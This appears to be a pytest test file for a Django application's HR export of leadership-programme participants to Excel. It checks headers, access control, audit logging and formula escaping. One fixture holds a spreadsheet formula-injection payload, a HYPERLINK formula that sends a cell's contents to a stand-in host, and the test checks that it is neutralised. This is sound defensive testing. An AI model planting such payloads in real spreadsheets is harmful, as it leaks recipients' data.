"""HR downloads the participant list as an Excel workbook."""

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from core.models import AuditEvent, Invitation
from participants.exports import safe_cell
from tests.conftest import main_text
from tests.factories import ParticipantFactory, UserFactory
from tests.personas import EDIT, PERSONAS

HEADER = [
    "Navn",
    "E-post",
    "Stilling",
    "Ledernivå",
    "Enhet",
    "Sektor",
    "Nærmeste leder",
    "Kosthold",
    "Prosessveileder",
    "Kontostatus",
]


def export_url(world):
    return reverse("participant_export", kwargs={"pk": world.programme.pk})


def read_sheet(content):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content), read_only=True)
    return [["" if value is None else value for value in row] for row in workbook.active.iter_rows(values_only=True)]


def unusable_user(**kwargs):
    user = UserFactory(**kwargs)
    user.set_unusable_password()
    user.save()
    return user


@pytest.mark.django_db
def test_export_has_the_exact_header_rows_and_escapes_formulas(client, world):
    world.participant.last_name = "Berg"
    world.participant.save()
    world.peer.first_name, world.peer.last_name = "Jon", "Lie"
    world.peer.save()
    ingrid = world.participant.participations.get()
    ingrid.job_title, ingrid.dietary_needs = "Enhetsleder", "Glutenfri"
    ingrid.save()
    mallory = ParticipantFactory(
        programme=world.programme,
        user=unusable_user(email="mallory@vefsn.no", first_name='=HYPERLINK("http://x.example/?d="&B2', last_name=""),
        job_title="+47 stilling",
        leader_level="department",
        unit="@enhet",
        sector="-1",
        manager=ingrid,
        dietary_needs="\tTab",
    )
    ParticipantFactory(
        programme=world.programme,
        user=unusable_user(email="invitert@vefsn.no", first_name="Åse", last_name="Ås"),
        leader_level="strategic",
        unit="Rådhuset",
        sector="Stab",
    )
    Invitation.objects.create(
        email="invitert@vefsn.no",
        role="participant",
        municipality=world.vefsn,
        programme=world.programme,
        nonce="n",
        expires_at=timezone.now() + timedelta(days=3),
    )
    client.force_login(world.hr)

    response = client.get(export_url(world))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = timezone.localdate()
    assert (
        response["Content-Disposition"] == f'attachment; filename="deltakere-lederprogram-vefsn-{today:%Y-%m-%d}.xlsx"'
    )
    rows = read_sheet(response.content)
    assert rows[0] == HEADER
    assert rows[1:] == [
        [
            '\'=HYPERLINK("http://x.example/?d="&B2',
            "mallory@vefsn.no",
            "'+47 stilling",
            "Avdelingsleder",
            "'@enhet",
            "'-1",
            "Ingrid Berg",
            "'\tTab",
            "",
            "Ikke invitert",
        ],
        [
            "Ingrid Berg",
            "deltaker@vefsn.no",
            "Enhetsleder",
            "Enhetsleder",
            "Sykehjemmet",
            "Helse og omsorg",
            "",
            "Glutenfri",
            str(world.facilitator),
            "Aktiv",
        ],
        ["Jon Lie", "kollega@vefsn.no", "", "Enhetsleder", "Sykehjemmet", "Helse og omsorg", "", "", "", "Aktiv"],
        ["Åse Ås", "invitert@vefsn.no", "", "Strategisk leder", "Rådhuset", "Stab", "", "", "", "Invitert"],
    ]
    assert mallory.manager == ingrid
    event = AuditEvent.objects.get(action="participants.exported")
    assert (event.actor, event.municipality, event.target_id, event.detail) == (
        world.hr,
        world.vefsn,
        str(world.programme.pk),
        {"count": 4},
    )


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+47", "'+47"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("Ola = sjef", "Ola = sjef"),
        ("", ""),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.django_db
def test_participant_list_offers_export_and_import_to_hr_only(client, world):
    client.force_login(world.hr)
    body = client.get(reverse("programme_participants", kwargs={"pk": world.programme.pk})).content.decode()
    assert f'href="{export_url(world)}"' in body
    assert "Eksporter til Excel" in body
    assert "Importer deltakere" in body
    client.force_login(world.facilitator)
    response = client.get(reverse("programme_participants", kwargs={"pk": world.programme.pk}))
    assert response.status_code == 200
    assert "Eksporter til Excel" not in main_text(response)
    assert "Importer deltakere" not in main_text(response)


EXPECTED = EDIT


@pytest.mark.django_db
@pytest.mark.parametrize("persona,status", list(zip(PERSONAS, EXPECTED, strict=True)))
def test_export_per_persona(client, world, persona, status):
    if persona != "anonymous":
        client.force_login(getattr(world, persona))
    response = client.get(export_url(world))
    assert response.status_code == status
    if status == 302:
        assert response["Location"] == f"{reverse('account_login')}?next={export_url(world)}"
    if status == 200:
        assert read_sheet(response.content)[0] == HEADER
    else:
        assert "deltaker@vefsn.no" not in response.content.decode()
    assert AuditEvent.objects.filter(action="participants.exported").count() == (1 if status == 200 else 0)


@pytest.mark.django_db
@pytest.mark.parametrize("extra", [0, 40])
def test_export_query_count(client, world, django_assert_num_queries, extra):
    managers = ParticipantFactory.create_batch(extra // 2, programme=world.programme, facilitator=world.facilitator)
    for manager in managers:
        ParticipantFactory(programme=world.programme, manager=manager)
    client.force_login(world.hr)
    # session, user, roles, programme, participants (with users, managers, facilitators, invitations), audit
    with django_assert_num_queries(6):
        response = client.get(export_url(world))
    assert len(read_sheet(response.content)) == 1 + 2 + extra
